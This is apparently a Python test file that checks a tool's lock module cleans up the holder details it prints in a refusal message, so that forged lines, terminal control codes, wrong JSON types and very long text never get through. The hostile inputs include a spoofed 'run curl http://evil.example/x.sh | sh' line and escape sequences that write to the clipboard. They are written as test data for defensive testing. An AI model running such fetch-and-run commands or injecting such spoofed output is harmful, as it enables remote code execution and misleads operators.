"""What a held lock's refusal says of its holder: each field the holder wrote only when it has the type written there,
on one line and cut short; a lock file another user owns is not quoted at all.

38th hostile pass (part B) P5: `lock._read_holder` printed the file's words as read. Another user's
`.ENV.gc-wizard.lock` beside `install --env /tmp/ENV` put a line of its own (`==> Installed OK: run curl … | sh`) into
root's refusal, and the state's own lock showed CR LF as a new line, `['x']`, `{'a': 1}`, `inf` and 3000 characters."""

from __future__ import annotations

import fcntl
import json
import os
import pwd
import subprocess

import pytest

from wizard import lock
from wizard.errors import LockHeld
from wizard.lock import HOLDER_FIELD_CHARS, StateLock, TargetLock

GOOD = {"pid": 4242, "host": "node7", "purpose": "install tiny-a", "since": "2026-11-29T14:00:00"}
#: Values a holder file may hold in place of each field: lines, terminal controls, other JSON types, huge text.
WRONG = ["x\n==> Installed OK: run  curl http://evil.example/x.sh | sh  to finish", "a\r\nFAKE: all good",
         "\x1b[2J\x1b]52;c;ZXZpbA==\x07", "\u2028LS\u2029PS\x85NEL", "y" * 3000, "", "   ", ["x"], {"a": 1}, None,
         True, 1.5, -1, 0, 2**40, 10**30]
#: The forms of the wrong values that must never be shown: another line's start, Python's reprs.
NEVER = ("\n", "\r", "\x1b", "\u2028", "\u2029", "\x85", "['x']", "{'a': 1}", "None", "True", "1.5", "1e+30",
         str(2**40), str(10**30), "y" * (HOLDER_FIELD_CHARS + 1))


def _holder(tmp_path, written: bytes) -> str:
    path = tmp_path / "holder"
    path.write_bytes(written)
    fd = os.open(path, os.O_RDONLY)
    try:
        return lock._read_holder(fd)
    finally:
        os.close(fd)


@pytest.mark.parametrize("field", sorted(GOOD))
def test_each_field_is_shown_only_with_its_type_on_one_line_and_bounded(tmp_path, field):
    for value in WRONG:
        said = _holder(tmp_path, json.dumps({**GOOD, field: value}).encode())
        for never in NEVER:
            assert never not in said, (field, value, said)
        assert len(said) < 4 * (HOLDER_FIELD_CHARS * 12 + 20), (field, value)
        for other, kept in GOOD.items():  # the other fields are still said
            if other != field:
                assert str(kept) in said, (field, value, said)
    assert _holder(tmp_path, json.dumps(GOOD).encode()) == "pid 4242 on node7, install tiny-a since 2026-11-29T14:00:00"


@pytest.mark.parametrize("written", [b'{"pid": 1e400, "host": ["x"], "purpose": {"a": 1}, "since": null}',
                                     b'{"pid": "abc\\nFORGED LINE"}', b"[1]", b"{}", b"\xff"])
def test_a_holder_with_nothing_of_the_written_types_is_unknown(tmp_path, written):
    assert _holder(tmp_path, written) == "holder unknown"


def test_the_state_locks_refusal_is_one_line(tmp_path):
    path = tmp_path / "wizard.lock"
    with StateLock("install", path):
        path.write_text(json.dumps({**GOOD, "purpose": "x\r\nFAKE: all good", "host": "h\n==> Installed OK"}))
        with pytest.raises(LockHeld) as held:
            with StateLock("rollback", path):
                pass
    said = str(held.value)
    assert "\n" not in said and "\r" not in said and "pid 4242 on h\\u000a==> Installed OK, x\\u000d\\u000aFAKE" in said


def test_a_target_lock_another_user_owns_is_not_quoted(tmp_path, second_user):
    """The file is made, held and written as the other user makes it; root's refusal names only its owner."""
    env = tmp_path / "ENV"
    path = tmp_path / ".ENV.gc-wizard.lock"
    path.write_text(json.dumps({**GOOD, "purpose": "x\n==> Installed OK: run curl http://evil.example/x.sh | sh"}))
    subprocess.run(["chown", second_user, str(path)], check=True)
    uid = pwd.getpwnam(second_user).pw_uid
    held = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(held, fcntl.LOCK_EX)  # another open file: the wizard's own flock is refused, as another holder's
        with pytest.raises(LockHeld) as refused:
            TargetLock(env, "install tiny-a").acquire()
    finally:
        os.close(held)
    said = str(refused.value)
    assert f"({'held by user ' + second_user} (uid {uid}))" in said, said
    assert "Installed OK" not in said and "4242" not in said and "node7" not in said
